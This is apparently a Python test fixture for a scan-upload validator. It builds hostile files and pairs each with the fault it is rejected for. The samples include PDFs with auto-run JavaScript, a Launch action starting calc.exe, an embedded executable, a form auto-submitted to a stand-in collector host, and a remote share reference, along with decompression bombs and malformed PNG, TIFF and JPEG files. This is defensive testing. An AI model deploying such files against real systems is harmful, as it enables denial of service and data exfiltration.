"""Files that mean harm, or are nothing one can scan, each with the fault it must be refused for."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from inro.paper.scan.errors import FileFault
from tests.paper.scanner import scanned

PICTURE = Image.new("L", (400, 600), 230)


def pdf_with(change: Callable[[pikepdf.Pdf], None], **saved: object) -> bytes:
    """Return a PDF of one page, changed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(scanned([PICTURE], kind="PDF"))) as pdf:
        change(pdf)
        pdf.save(out, **saved)
    return out.getvalue()


def script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def script_in_a_stream(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["a", pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="x"))]))
    )


def script_nobody_refers_to(pdf: pikepdf.Pdf) -> None:
    pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="x"))
    pdf.Root.Kept = Array([Array([Dictionary(Deep=Dictionary(AA=Dictionary(O=Dictionary(JS="x"))))])])


def program_start(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F="calc.exe"))


def file_inside(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["other.exe"] = b"MZ"


def outside_stream(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"", F="//198.51.100.1/share/x")


def media(pdf: pikepdf.Pdf) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def living_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def sent_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="https://collector.example/")


def packed_stream(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = raw_stream(pdf, bomb(300), Filter=Name.FlateDecode)


def packed_twice(pdf: pikepdf.Pdf) -> None:
    twice = zlib.compress(bomb(300))
    pdf.pages[0].Contents = raw_stream(pdf, twice, Filter=Array([Name.FlateDecode, Name.FlateDecode]))


def raw_stream(pdf: pikepdf.Pdf, octets: bytes, **entries: object) -> pikepdf.Stream:
    stream = pdf.make_stream(b"")
    stream.write(octets, filter=entries["Filter"])
    return stream


def huge_sheet(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].MediaBox = Array([0, 0, 14_400, 14_400])


def huge_picture(pdf: pikepdf.Pdf) -> None:
    picture = raw_stream(pdf, bomb(100), Filter=Name.FlateDecode)
    picture.Subtype, picture.Width, picture.Height = Name.Image, 10_000, 10_000
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceGray, 8
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im=picture))


def page_tree_in_a_ring(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids = Array([pdf.Root.Pages])


def many_pages(pdf: pikepdf.Pdf) -> None:
    tree = pdf.Root.Pages
    pages = [pdf.make_indirect(Dictionary(Type=Name.Page, Parent=tree)) for _ in range(9_999)]
    tree.Kids = Array([*tree.Kids, *pages])
    tree.Count = len(tree.Kids)


@cache
def bomb(mebi: int) -> bytes:
    """Return deflated octets that grow to `mebi` MiB."""
    packer = zlib.compressobj(1)
    return b"".join(packer.compress(bytes(2**20)) for _ in range(mebi)) + packer.flush()


def bomb_in_the_table() -> bytes:
    """Return a PDF whose table of objects is itself a bomb."""
    packed = bomb(300)
    head = b"%PDF-1.5\n1 0 obj\n<</Type/XRef/Size 9/W[1 2 1]/Root 2 0 R/Filter/FlateDecode/Length "
    body = head + str(len(packed)).encode() + b">>\nstream\n" + packed + b"\nendstream\nendobj\n"
    return body + b"startxref\n9\n%%EOF\n"


def big_picture(kind: str) -> bytes:
    out = io.BytesIO()
    how = {"compression": "tiff_deflate"} if kind == "TIFF" else {}
    Image.new("L", (10_000, 10_000), 255).save(out, kind, **how)
    return out.getvalue()


def claimed_png() -> bytes:
    """Return a PNG that claims two billion pixels a side and has none."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def text_bomb_png() -> bytes:
    """Return a PNG whose comment grows to 64 MiB."""
    out = io.BytesIO()
    PICTURE.save(out, "PNG")
    good = out.getvalue()
    body = b"Comment\0\0" + bomb(64)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return good[:33] + chunk + good[33:]


def looping_tiff() -> bytes:
    """Return a TIFF whose first directory names itself as the next."""
    good = scanned([PICTURE])
    first = int.from_bytes(good[4:8], "little")
    end = first + 2 + 12 * int.from_bytes(good[first : first + 2], "little")
    return good[:end] + good[4:8] + good[end + 4 :]


def broken_jpeg() -> bytes:
    good = scanned([PICTURE], kind="JPEG")
    place = good.index(b"\xff\xc0")
    return good[:place] + b"\xff\xd8\xff\xff\x00" + good[place + 5 :]


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("scan.pdf", b"%PDF-1.4")
    return out.getvalue()


def locked(password: str) -> bytes:
    return pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="owner", user=password))


ACTIVE = (
    script, script_nobody_refers_to, program_start, file_inside, outside_stream, media, living_form,
    sent_form,
)  # fmt: skip

HOSTILE: dict[str, tuple[Callable[[], bytes], FileFault]] = {
    "nothing": (lambda: b"", FileFault.EMPTY),
    "archive": (archive, FileFault.NOT_A_SCAN),
    "program": (lambda: b"MZ" + bytes(200), FileFault.NOT_A_SCAN),
    "drawing": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', FileFault.NOT_A_SCAN),
    "web page": (lambda: b"<!doctype html><script>alert(1)</script>", FileFault.NOT_A_SCAN),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n%PDF-1.4\n", FileFault.NOT_A_SCAN),
    "gif": (lambda: scanned([PICTURE], kind="GIF"), FileFault.NOT_A_SCAN),
    **{
        change.__name__.replace("_", " "): (lambda change=change: pdf_with(change), FileFault.ACTIVE_CONTENT)
        for change in ACTIVE
    },
    "script in an object stream": (
        lambda: pdf_with(script_in_a_stream, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        FileFault.ACTIVE_CONTENT,
    ),
    "encrypted": (lambda: locked("secret"), FileFault.ENCRYPTED),
    "encrypted with an empty password": (lambda: locked(""), FileFault.ENCRYPTED),
    "PDF cut short": (lambda: scanned([PICTURE], kind="PDF")[:-200], FileFault.MALFORMED),
    "PDF header alone": (lambda: b"%PDF-1.7\n", FileFault.MALFORMED),
    "page tree in a ring": (lambda: pdf_with(page_tree_in_a_ring), FileFault.MALFORMED),
    "bomb in a stream": (lambda: pdf_with(packed_stream), FileFault.BOMB),
    "bomb packed twice": (lambda: pdf_with(packed_twice), FileFault.BOMB),
    "bomb in the table of objects": (bomb_in_the_table, FileFault.MALFORMED),
    "huge sheet": (lambda: pdf_with(huge_sheet), FileFault.TOO_MANY_PIXELS),
    "huge picture in a PDF": (lambda: pdf_with(huge_picture), FileFault.TOO_MANY_PIXELS),
    "10,000 pages": (lambda: pdf_with(many_pages), FileFault.TOO_MANY_PAGES),
    "100 megapixels PNG": (lambda: big_picture("PNG"), FileFault.TOO_MANY_PIXELS),
    "100 megapixels TIFF": (lambda: big_picture("TIFF"), FileFault.TOO_MANY_PIXELS),
    "100 megapixels JPEG": (lambda: big_picture("JPEG"), FileFault.TOO_MANY_PIXELS),
    "PNG of claims": (claimed_png, FileFault.TOO_MANY_PIXELS),
    "PNG with a bomb for a comment": (text_bomb_png, FileFault.BOMB),
    "TIFF that loops": (looping_tiff, FileFault.MALFORMED),
    "TIFF of many pages": (lambda: scanned([Image.new("1", (8, 8))] * 1_001), FileFault.TOO_MANY_PAGES),
    "JPEG with broken markers": (broken_jpeg, FileFault.MALFORMED),
    "JPEG cut short": (lambda: scanned([PICTURE], kind="JPEG")[:-300], FileFault.MALFORMED),
    "PNG cut short": (lambda: scanned([PICTURE], kind="PNG")[:-300], FileFault.MALFORMED),
    "TIFF header alone": (lambda: b"II*\0\x08\0\0\0", FileFault.MALFORMED),
}
